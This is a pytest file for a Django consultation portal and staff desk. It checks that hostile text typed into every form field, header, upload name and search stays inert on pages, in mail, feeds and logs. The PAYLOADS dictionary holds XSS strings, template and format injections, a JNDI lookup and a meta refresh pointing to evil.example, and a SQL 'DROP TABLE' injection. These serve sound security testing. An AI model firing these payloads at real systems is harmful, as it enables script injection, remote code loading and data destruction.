"""Code typed into every field stays words, at the portal, the desk, in the mail and in the logs.

The rows X11 and X14 of the house's list of sixty bad inputs.
"""

import logging
from datetime import datetime
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote, urlencode
from xml.etree import ElementTree as ET

import pytest
from django.core import mail
from django.test import Client
from django.utils.html import escape
from pytest_django import Settings

from madoguchi.config.windows import DESK
from madoguchi.tools.mail.models import Outgoing
from madoguchi.tools.office.public import OfficeCard
from madoguchi.work.cases.models import Case
from madoguchi.work.record import jobs
from madoguchi.work.record.models import Entry
from madoguchi.work.search.queries import PURPOSES
from tests.answers import squeezed
from tests.badinputs.ends import open_desk
from tests.web.desk.colleagues import asked, colleague, do
from tests.web.portal import browsing

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "attribute": "\"><img src=x onerror='alert(1)'>",
    "template": "{{71993*71}}{% load x %}{% csrf_token %}${71993*71}",
    "look-up": "${jndi:ldap://evil.example/x}",
    "format": "%s%n%x {0.__class__}",
    "query": "'; DROP TABLE cases_case;--",
    "scheme": "javascript:alert(1)",
    "beacon": "![x](https://evil.example/x.png) [y](javascript:alert(1))",
    "refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
}
WORKED_OUT = "5111503"
CALL = {"log_how": "call_in", "log_outcome": "answered"}
REFERRAL = {"agency": "ihaho", "consent": "person", "token": "one"}
ADDRESSES = ("href", "src", "action", "formaction", "srcset", "poster", "content")


class Parts(HTMLParser):
    """Every attribute of a page that a browser would follow or run."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.live: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:  # noqa: ARG002
        """Keep what leads somewhere or runs."""
        self.live += [v or "" for n, v in attrs if n in ADDRESSES or n.startswith("on")]


def assert_inert(page: str, payload: str) -> None:
    """The page holds the payload as text at most."""
    if escape(payload) != payload:
        assert payload not in page
    assert "<script>alert" not in page
    assert WORKED_OUT not in page
    live = Parts(page).live
    assert live
    assert not [v for v in live if "evil.example" in v or "javascript:" in v or "alert(" in v]


def tell_all(portal: Client, payload: str) -> list[str]:
    """Answer the five steps with the payload wherever words are taken; the pages shown."""
    browsing.begin(portal)
    wrong = [
        browsing.answer(portal, "danger", danger=payload, who=payload),
        browsing.answer(portal, "contact", contact_rule=payload, phone=payload, email=payload),
        browsing.answer(portal, "about", age=payload, age_band=payload, support=payload),
    ]
    assert [page.status_code for page in wrong] == [422] * 3
    contact = browsing.CONTACT | {
        "contact_rule": "mail_only",
        "mail": "yes",
        "email": "taro@example.jp",
        "name": payload,
        "kana": payload,
    }
    upload = browsing.file("x.jpg")
    vars(upload)["_name"] = payload  # as a hostile browser would send it
    story = {"urls": payload, "when": payload, "text": payload, "files": [upload]}
    steps: dict[str, dict[str, Any]] = {
        "danger": browsing.START,
        "contact": contact,
        "about": {"town": payload, "language": payload},
        "story": story | {"place": payload, "kinds": payload},
        "wishes": {"how": "any", "visit_when": payload},
    }
    for step, typed in steps.items():
        sent = browsing.answer(portal, step, **typed)
        assert sent.status_code == 303, (step, squeezed(sent))
    steps_again = [portal.get(f"/s/c/{step}/") for step in steps]
    return [squeezed(page) for page in (*wrong, *steps_again)]


def at_the_desk(settings: Settings, office: OfficeCard, now: datetime) -> tuple[str, str]:
    """The inbox and the case page of a colleague who took the case."""
    settings.ROOT_URLCONF, settings.MIDDLEWARE = DESK.urls, list(DESK.middleware)
    settings.WINDOW = DESK
    case = Case.objects.get()
    _, browser = colleague(office, "counsellor", now)
    assert do(browser, case, "take").status_code == 303
    page = browser.get(f"/cases/{case.pk}/")
    return squeezed(browser.get("/?tab=open")), squeezed(page)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_x11_x14_code_in_every_field_stays_words(
    portal: Client,
    office: OfficeCard,
    now: datetime,
    settings: Settings,
    caplog: pytest.LogCaptureFixture,
    payload: str,
) -> None:
    caplog.set_level(logging.DEBUG)
    portal.defaults |= {
        "HTTP_USER_AGENT": payload,
        "HTTP_REFERER": payload,
        "HTTP_ORIGIN": "http://portal.test",
    }
    pages = tell_all(portal, payload)
    check = squeezed(portal.get("/s/c/check/"))
    assert check.count(escape(payload)) >= 8
    pair = browsing.send(portal)
    done = squeezed(portal.get("/s/c/done/"))
    browsing.open_receipt(portal, *pair)
    assert browsing.add(portal, payload).status_code == 303
    receipt = squeezed(portal.get("/s/f/"))
    assert escape(payload) in receipt
    inbox, case = at_the_desk(settings, office, now)
    assert case.count(escape(payload)) >= 9
    for page in (*pages, check, done, receipt, inbox, case):
        assert_inert(page, payload)
    for row in Outgoing.objects.all():
        jobs.tell(row.id, now=now)
    assert mail.outbox
    for letter in mail.outbox:
        assert payload not in letter.message().as_string() + letter.subject + str(letter.body)
    assert payload not in caplog.text


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_x11_code_from_the_desk_stays_words_in_public_too(
    portal: Client, office: OfficeCard, now: datetime, settings: Settings, payload: str
) -> None:
    case = asked(office, now, text=payload, about={"name": payload, "email": payload})
    before = settings.ROOT_URLCONF, settings.MIDDLEWARE, settings.WINDOW
    open_desk(settings)
    _, browser = colleague(office, "counsellor", now)
    assert do(browser, case, "take").status_code == 303
    for act, typed in (
        ("answer", {"answer_text": payload, "answer_days": "5"}),
        ("note", {"note_text": payload}),
        ("plan", {"plan_kind": "call", "plan_days": "3", "plan_why": payload}),
        ("log", CALL | {"log_text": payload, "log_why": payload}),
    ):
        assert do(browser, case, act, **typed).status_code == 303, act
    assert browser.post(f"/heard/{case.pk}/", {"effects": payload}).status_code == 303
    anew = f"/cases/{case.pk}/entries/{Entry.objects.get(kind='call').pk}/"
    reason = {"correct_text": payload, "correct_reason": payload}
    assert browser.post(anew, reason).status_code == 303
    refer = f"/refer/{case.pk}/new/"
    case.refresh_from_db()
    referral = REFERRAL | {"told": payload, "revision": str(case.revision)}
    assert browser.post(refer, referral).status_code == 303
    notice = {"kind": "news", "title": payload, "body": payload}
    assert browser.post("/notices/", notice).status_code == 303
    wrong = browser.post(refer, REFERRAL | {"consent": payload, "until": payload})
    strange = f"/?{urlencode({'tab': payload, 'after': ''})}"
    shown = (f"/cases/{case.pk}/", anew, f"/heard/{case.pk}/", "/notices/", strange)
    pages = [browser.get(path) for path in shown]
    sheet = browser.post(
        f"/sheets/{case.pk}/", {"notes": "1"}
    )  # its words: tests/badinputs/test_on_paper
    assert sheet["Content-Type"] == "application/pdf"
    pages += [
        browser.post("/search/", {"words": payload[:60], "purpose": PURPOSES[0]}),
        browser.post("/search/", {"words": payload * 9, "purpose": payload}),
    ]
    _, auditor = colleague(office, "auditor", now)
    pages += [
        wrong,
        auditor.get("/audit/"),
        auditor.get(f"/audit/?{urlencode({'before': payload})}"),
    ]
    settings.ROOT_URLCONF, settings.MIDDLEWARE, settings.WINDOW = before
    pages += [
        portal.get("/news/"),
        portal.post("/search/", {"words": payload}),
        browsing.open_receipt(portal, payload, payload),
        portal.get(f"/{quote(payload, safe='')}/"),
    ]
    for page in pages:
        assert_inert(squeezed(page), payload)
    for feed in ("/news/rss.xml", "/news/atom.xml"):
        told = portal.get(feed)
        root = ET.fromstring(told.content)
        assert payload in [node.text for node in root.iter() if node.text]


def test_x11_what_would_run_is_found() -> None:
    """The control: the same look at a page that forgot to escape."""
    for payload in (PAYLOADS["script"], PAYLOADS["attribute"]):
        with pytest.raises(AssertionError):
            assert_inert(f'<a href="/">x</a>{payload}', payload)
